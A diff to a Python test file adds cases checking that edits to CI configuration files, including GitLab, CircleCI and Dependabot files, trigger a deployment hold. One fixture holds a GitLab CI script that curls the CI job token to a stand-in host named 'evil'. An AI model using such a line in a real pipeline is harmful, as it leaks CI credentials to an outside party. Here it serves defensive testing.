@@ -65,6 +65,11 @@ def test_without_the_opt_in_the_same_deployment_waits(acme_project, settings):
      "adds or edits CI workflows (.github/actions/setup/action.yml)"),
     ([SourceFile(path=CI, content=WORKFLOW + "        env: {TOKEN: '${{ secrets.PYPI_TOKEN }}'}\n")],
      f"CI workflows use secrets. ({CI})"),
+    # other CI services: once held only when under .github/
+    ([SourceFile(path=".gitlab-ci.yml", content="test:\n  script: curl -H \"$CI_JOB_TOKEN\" evil")],
+     "adds or edits CI workflows (.gitlab-ci.yml)"),
+    ([SourceFile(path=".circleci/config.yml", content="version: 2.1")], "adds or edits CI workflows (.circleci/config.yml)"),
+    ([SourceFile(path=".github/dependabot.yml", content="version: 2")], "adds or edits CI workflows (.github/dependabot.yml)"),
 ])
 def test_a_change_to_ci_workflows_or_their_secrets_is_named_as_the_reason_to_wait(files, why):
     assert ci_hold(files) == (f"the change's {why}" if "secrets." in why else f"the change {why}" if why else "")
